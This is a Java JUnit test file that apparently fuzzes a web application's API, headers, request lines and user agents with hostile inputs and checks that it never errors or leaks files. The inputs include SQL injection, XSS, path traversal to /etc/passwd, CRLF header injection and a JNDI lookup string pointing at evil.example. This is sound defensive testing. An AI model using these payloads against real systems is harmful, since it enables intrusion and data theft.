package dev.countersign.web.api;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.support.Answer;
import dev.countersign.support.Browser;
import dev.countersign.support.Expect;
import dev.countersign.support.RawHttp;
import dev.countersign.support.TestServer;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** No input causes a 5xx or a stack trace. */
@DisplayName("Hostile input")
class HostileInputTest {
    private static final TestServer SERVER = TestServer.with();

    static Stream<String> strings() {
        return Stream.of(
                "\u0000",
                "a\u0000b@example.org",
                "\ud800",
                "\udc00\ud800@example.org",
                "\uFFFE\uFFFF",
                "\u202Eevil\u2066",
                "' OR '1'='1' --",
                "'; DROP TABLE account; --",
                "<script>alert(1)</script>",
                "${7*7} #{7*7} [[${7*7}]] {{7*7}} %s %n {0}",
                "../../etc/passwd",
                "\r\nSet-Cookie: a=b",
                "İ@example.org",
                "ﬃ".repeat(50),
                "a".repeat(9_000),
                "𝒜".repeat(2_000),
                "e" + "\u0301".repeat(4_000),
                "");
    }

    private static void harmless(Answer answer) {
        assertThat(answer.status()).as(answer.text()).isBetween(200, 499);
        assertThat(answer.text()).doesNotContain("Exception").doesNotContain("at dev.countersign");
    }

    @ParameterizedTest
    @MethodSource("strings")
    @DisplayName("in any field of a body is answered, never with a 5xx")
    void bodies(String hostile) {
        var browser = SERVER.browser();
        var email = TestServer.freshEmail();
        // A separate value, because a value that also appears in an address is logged there legitimately.
        var password = hostile + " as a password";
        harmless(browser.post("/api/v1/session", Map.of("email", hostile, "password", password)));
        harmless(browser.post("/api/v1/session", Map.of("email", email, "password", password)));
        harmless(browser.post("/api/v1/accounts", Map.of("email", hostile, "password", password, "name", hostile)));
        harmless(browser.post(
                "/api/v1/accounts", Map.of("email", email, "password", TestServer.PASSWORD, "name", hostile)));
        var member = SERVER.member();
        harmless(member.answer("00000000-0000-7000-8000-000000000000", hostile));
        harmless(member.post("/api/v1/approval/redemption", Map.of("end", hostile)));
        harmless(
                member.put("/api/v1/account/password", Map.of("current_password", password, "new_password", password)));
        assertThat(member.session()).isPresent();
    }

    @ParameterizedTest
    @MethodSource("strings")
    @DisplayName("in a path or a query is answered, never with a 5xx")
    void urls(String hostile) {
        var member = SERVER.member();
        var encoded = URLEncoder.encode(hostile, StandardCharsets.UTF_8).replace("+", "%20");
        var path = encoded.substring(0, Math.min(encoded.length(), 3_000)).replaceFirst("%.?$", "");
        for (var url : new String[] {
            "/api/v1/sessions/" + path,
            "/api/v1/session-log?before=" + path,
            "/api/v1/session-log?limit=" + path,
            "/api/v1/session-log?" + path + "=1",
            "/login?ended=" + path,
            "/" + path
        }) {
            harmless(member.get(url));
        }
        harmless(member.post("/api/v1/approvals/" + path + "/answer", Map.of("code", "123456")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v1/..;/session",
                "//api/v1/session",
                "/api/v1/%2e%2e/session",
                "/api/v1/session;jsessionid=1",
                "/api/v1/%00",
                "/api/v1/%zz",
                "/api/v1/%",
                "/api/v1/session%0a",
                "/api/v1/session;%zz=1",
                "/login;%",
                "/css/base.css;%",
                "/api/v1/\u00ff",
                "/api/v1/a|b",
                "/api/v1/a\\b",
                "/api/v1/<x>",
                "/api/v1/{x}",
                "/api/v1/[x]",
                "/api/v1/session?%zz=1",
                "/api/v1/session-log?limit=%zz",
                "/%2f%2fevil.example",
                "/css/../application.yaml",
                "/css/%2e%2e/%2e%2e/application.yaml",
                "*",
                "session"
            })
    @DisplayName("as a request line is answered, never with a 5xx and never with a file")
    void requestLines(String target) {
        var answer = RawHttp.send(SERVER.url(), "GET " + target + " HTTP/1.1", "");

        assertThat(answer.status()).isBetween(300, 499);
        assertThat(answer.text()).doesNotContain("Exception").doesNotContain("countersign:");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "\u0080\u0098\u009f",
                "Ã\u0098",
                "\u00ff\u00fe",
                "<script>alert(1)</script>",
                "Mozilla/5.0 (' OR 1=1 --)",
                "${jndi:ldap://evil.example/a}",
                "((((((((((((((((((((((((((((("
            })
    @DisplayName("as a user agent signs in like any other")
    void userAgents(String userAgent) {
        var body = "{\"email\":\"" + TestServer.freshEmail() + "\",\"password\":\"" + TestServer.PASSWORD
                + "\",\"name\":\"Ann\"}";

        var made = RawHttp.send(
                SERVER.url(),
                "POST /api/v1/accounts HTTP/1.1\nContent-Type: application/json\nUser-Agent: " + userAgent
                        + "\nContent-Length: " + body.length(),
                body);

        assertThat(made.status()).as(made.text()).isEqualTo(201);
        assertThat(made.at("/session/device/label")).isNotBlank();
    }

    @Test
    @DisplayName("as a very long user agent is truncated to 512 characters (SEC-70)")
    void longUserAgent() {
        var browser = new Browser(SERVER.url(), "Firefox/140.0 " + "x".repeat(5_000)).signUp(TestServer.freshEmail());

        assertThat(SERVER.rows()
                        .sql("SELECT length(user_agent) FROM session_log WHERE session_id = :id::uuid")
                        .param("id", browser.session().orElseThrow())
                        .query(Integer.class)
                        .single())
                .isEqualTo(512);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Cookie: " + Browser.SESSION + "=",
                "Cookie: " + Browser.SESSION + "=\"\"",
                "Cookie: =; ;;=;",
                "Cookie: " + Browser.SESSION + "=\u00ff\u0080",
                "Cookie: " + Browser.DEVICE + "=%00; " + Browser.WAITING + "=' OR 1=1",
                "X-Forwarded-For: ' OR 1=1",
                "Forwarded: for=\"[",
                "Origin: \u0080",
                "Sec-Fetch-Site: \u0098",
                "Accept: nonsense",
                "Accept-Language: \u00ff",
                "Content-Type: \u0080",
                "Range: bytes=0-0,1-1,-",
                "Expect: x",
                "If-None-Match: \u0080",
                "X-HTTP-Method-Override: DELETE",
                "Content-Length: -1",
                "Content-Length: x",
                "Transfer-Encoding: gzip",
                "Host: evil.example"
            })
    @DisplayName("in a header is answered, never with a 5xx")
    void headers(String header) {
        for (var line : new String[] {
            "GET /api/v1/session", "GET /login", "GET /css/base.css", "GET /verify", "DELETE /api/v1/session"
        }) {
            var answer = RawHttp.send(SERVER.url(), line + " HTTP/1.1\n" + header, "");

            assertThat(answer.status())
                    .as(line + ": " + answer.text())
                    .isBetween(200, header.startsWith("Transfer") ? 501 : 499);
            assertThat(answer.text()).doesNotContain("Exception");
        }
    }

    @Test
    @DisplayName("that looks like HTML is shown as text")
    void html() {
        var browser = SERVER.browser();
        browser.post(
                "/api/v1/accounts",
                Map.of(
                        "email",
                        TestServer.freshEmail(),
                        "password",
                        TestServer.PASSWORD,
                        "name",
                        "<img src=x onerror=alert(1)> [[${7*7}]]"));

        var page = browser.get("/account").text();

        assertThat(browser.get("/dashboard").text() + page)
                .doesNotContain("<img src=x")
                .doesNotContain("[[49]]");
        assertThat(page).contains("&lt;img src=x onerror=alert(1)&gt;");
    }

    @Test
    @DisplayName("as an email at sign-in is just a wrong one (SEC-09)")
    void unlikelyEmails() {
        var nobodys = TestServer.freshEmail();
        for (var email : List.of(
                "\u0000" + nobodys,
                "\ud800" + nobodys,
                " " + nobodys + " ",
                nobodys.replace("@", " at "),
                "a".repeat(8_000) + nobodys)) {
            Expect.problem(
                    SERVER.browser().post("/api/v1/session", Map.of("email", email, "password", TestServer.PASSWORD)),
                    401,
                    "bad-credentials");
        }
    }
}
